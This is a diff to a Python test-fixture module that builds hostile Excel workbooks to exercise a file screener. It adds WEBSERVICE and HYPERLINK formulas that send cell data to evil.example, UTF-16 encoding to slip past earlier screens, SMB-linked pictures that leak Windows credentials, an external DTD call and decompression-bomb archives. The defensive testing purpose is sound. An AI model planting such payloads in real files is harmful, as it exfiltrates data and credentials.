@@ -137,16 +137,21 @@ INTERNAL_FORMULA = ("C7", "D7+E7+F7", "5")  # stays a formula: it reaches nothin
 EXTERNAL_LINK_TARGET = "file:///C:/bao-cao/nguon-ngoai.xlsx"
 
 
+def with_formulas(xml: str, formulas: dict[str, tuple[str, str]]) -> str:
+    """A sheet's XML whose cells (of the template's row 7) hold these formulas with their cached values."""
+    for cell, (formula, value) in formulas.items():
+        xml, n = re.subn(rf'<c r="{cell}" s="(\d+)"><v>[^<]*</v></c>',
+                         rf'<c r="{cell}" s="\1"><f>{formula}</f><v>{value}</v></c>', xml)
+        assert n == 1, cell
+    return xml
+
+
 def external_formulas(src: Path, dst: Path) -> Path:
     """Phước An's report whose Biểu mẫu 1 row 7 holds formulas that reach outside the workbook
     (with their cached values, as Excel saves them), one that does not, and the external link
     that "[1]" stands for, with a defined name pointing there."""
     def sheet(xml: str) -> str:
-        for cell, (formula, value) in {**EXTERNAL_FORMULAS, INTERNAL_FORMULA[0]: INTERNAL_FORMULA[1:]}.items():
-            xml, n = re.subn(rf'<c r="{cell}" s="(\d+)"><v>[^<]*</v></c>',
-                             rf'<c r="{cell}" s="\1"><f>{formula}</f><v>{value}</v></c>', xml)
-            assert n == 1, cell
-        return xml
+        return with_formulas(xml, {**EXTERNAL_FORMULAS, INTERNAL_FORMULA[0]: INTERNAL_FORMULA[1:]})
 
     def workbook(xml: str) -> str:
         name = '<definedName name="Ngoai">[1]Sheet1!$A$1</definedName>'
@@ -229,4 +234,126 @@ def amplified_shared_string(dst: Path, chars: int = 1_000_000, rows: int = 200, 
     with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
         for name, data in parts.items():
             zf.writestr(name, data.encode("utf-8"))
+    return dst
+
+
+# Second round (issue 21): hostile content the first screens did not see ---------------------
+
+UTF16_FORMULAS = {  # cell of Biểu mẫu 1 → (formula as the sheet's XML writes it, its cached value)
+    "G7": ('HYPERLINK("http://evil.example/?q="&amp;B7,5)', "5"),
+    "J7": ('_xlfn.WEBSERVICE("http://evil.example/?"&amp;C7)', "4"),
+}
+
+
+def as_utf16(xml: str) -> bytes:
+    """A part as some tools save it: UTF-16 with a byte-order mark, its XML declaration saying so."""
+    xml = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
+    return ("\ufeff" + xml).encode("utf-16-le")
+
+
+def utf16_external_formulas(src: Path, dst: Path) -> Path:
+    """Phước An's report whose Biểu mẫu 1 is stored as UTF-16, with formulas that reach outside."""
+    return rewrite(src, dst, {SHEET1: lambda x: as_utf16(with_formulas(x, UTF16_FORMULAS))})
+
+
+EXTERNAL_CF = 'LEN(_xlfn.WEBSERVICE("http://evil.example/?"&amp;C7))&gt;0'
+INTERNAL_CF = "C7&lt;0"
+EXTERNAL_LIST = "[1]Sheet1!$A$1:$A$9"
+
+
+def external_rules(src: Path, dst: Path) -> Path:
+    """Biểu mẫu 1 with a conditional format that calls WEBSERVICE for each figure, one that stays inside
+    the workbook, and a drop-down list (data validation) taken from another workbook."""
+    def sheet(xml: str) -> str:
+        rules = ('<conditionalFormatting sqref="C7:J7"><cfRule type="expression" priority="1">'
+                 f"<formula>{EXTERNAL_CF}</formula></cfRule></conditionalFormatting>"
+                 '<conditionalFormatting sqref="C7:F7"><cfRule type="expression" priority="2">'
+                 f"<formula>{INTERNAL_CF}</formula></cfRule></conditionalFormatting>")
+        xml = xml.replace("<dataValidations", rules + "<dataValidations", 1)
+        listed = (f'<dataValidation type="list" allowBlank="1" sqref="B8"><formula1>{EXTERNAL_LIST}</formula1>'
+                  "</dataValidation>")
+        xml = xml.replace('<dataValidations count="1">', '<dataValidations count="2">', 1)
+        return xml.replace("</dataValidations>", listed + "</dataValidations>", 1)
+    return rewrite(src, dst, {SHEET1: sheet})
+
+
+SMB_PICTURE = "file://///may-chu-la/chia-se/logo.png"
+SMB_LINK = "\\\\may-chu-la\\chia-se\\bao-cao.xlsx"
+WEB_PICTURE = "http://evil.example/pixel.png"
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
+
+
+def _picture(rid: str, n: int) -> str:
+    return (f'<xdr:twoCellAnchor><xdr:from><xdr:col>{n}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row>'
+            f'<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:to><xdr:col>{n + 1}</xdr:col><xdr:colOff>0</xdr:colOff>'
+            '<xdr:row>12</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to><xdr:pic><xdr:nvPicPr>'
+            f'<xdr:cNvPr id="{n + 2}" name="Ảnh {n}"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill>'
+            f'<a:blip r:link="{rid}"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr>'
+            '<a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="571500"/></a:xfrm><a:prstGeom prst="rect">'
+            "<a:avLst/></a:prstGeom></xdr:spPr></xdr:pic><xdr:clientData/></xdr:twoCellAnchor>")
+
+
+def external_links(src: Path, dst: Path) -> Path:
+    """Biểu mẫu 1 with two linked (not embedded) pictures, one on a network share (file://///…, which
+    Windows opens over SMB, sending the user's credentials) and one on a web server, and a hyperlink
+    to a network share in cell B8."""
+    def sheet(xml: str) -> str:
+        xml = xml.replace("<pageMargins", '<hyperlinks><hyperlink ref="B8" r:id="rId92"/></hyperlinks><pageMargins', 1)
+        return xml.replace("</worksheet>", '<drawing r:id="rId91"/></worksheet>', 1)
+
+    def types(xml: str) -> str:
+        return xml.replace("</Types>", '<Override PartName="/xl/drawings/drawing1.xml" ContentType='
+                           '"application/vnd.openxmlformats-officedocument.drawing+xml"/></Types>')
+
+    sheet_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL}">'
+                  f'<Relationship Id="rId91" Type="{REL}/drawing" Target="../drawings/drawing1.xml"/>'
+                  f'<Relationship Id="rId92" Type="{REL}/hyperlink" Target="{SMB_LINK}" TargetMode="External"/>'
+                  "</Relationships>")
+    drawing = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xdr:wsDr xmlns:xdr="http://schemas.'
+               'openxmlformats.org/drawingml/2006/spreadsheetDrawing" xmlns:a="http://schemas.openxmlformats.org/'
+               f'drawingml/2006/main" xmlns:r="{REL}">{_picture("rId1", 1)}{_picture("rId2", 4)}</xdr:wsDr>')
+    drawing_rels = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL}">'
+                    f'<Relationship Id="rId1" Type="{REL}/image" Target="{SMB_PICTURE}" TargetMode="External"/>'
+                    f'<Relationship Id="rId2" Type="{REL}/image" Target="{WEB_PICTURE}" TargetMode="External"/>'
+                    "</Relationships>")
+    rewrite(src, dst, {SHEET1: sheet, "[Content_Types].xml": types})
+    with zipfile.ZipFile(dst, "a", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("xl/worksheets/_rels/sheet1.xml.rels", sheet_rels)
+        zf.writestr("xl/drawings/drawing1.xml", drawing)
+        zf.writestr("xl/drawings/_rels/drawing1.xml.rels", drawing_rels)
+    return dst
+
+
+EXTERNAL_DTD = "http://evil.example/bao-cao.dtd"
+
+
+def external_dtd(src: Path, dst: Path, part: str) -> Path:
+    """A part that names an external DTD (no entity: nothing for the entity screens to refuse); a reader
+    that fetches DTDs calls the address when the file is opened."""
+    def inject(xml: str) -> str:
+        body = xml[xml.find("?>") + 2:]
+        root = re.search(r"<([\w:]+)[\s/>]", body).group(1)
+        return xml.replace("?>", f'?><!DOCTYPE {root} SYSTEM "{EXTERNAL_DTD}">', 1)
+    return rewrite(src, dst, {part: inject})
+
+
+def inflating(dst: Path, parts: int, part_bytes: int, random_every: int = 0) -> Path:
+    """A .xlsx whose parts inflate to ``parts`` × ``part_bytes``: zeros, with a random byte every
+    ``random_every`` bytes (0: none) so the ratio stays under a bound on compression alone."""
+    import os
+
+    chunk = bytearray(1 << 20)
+    if random_every:
+        noise = os.urandom(len(chunk) // random_every + 1)
+        chunk[::random_every] = noise[: len(chunk[::random_every])]
+    chunk = bytes(chunk)
+    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
+        zf.writestr("xl/workbook.xml", "<workbook/>")
+        for n in range(1, parts + 1):
+            with zf.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as part:
+                left = part_bytes
+                while left > 0:
+                    part.write(chunk[:left])
+                    left -= len(chunk)
     return dst
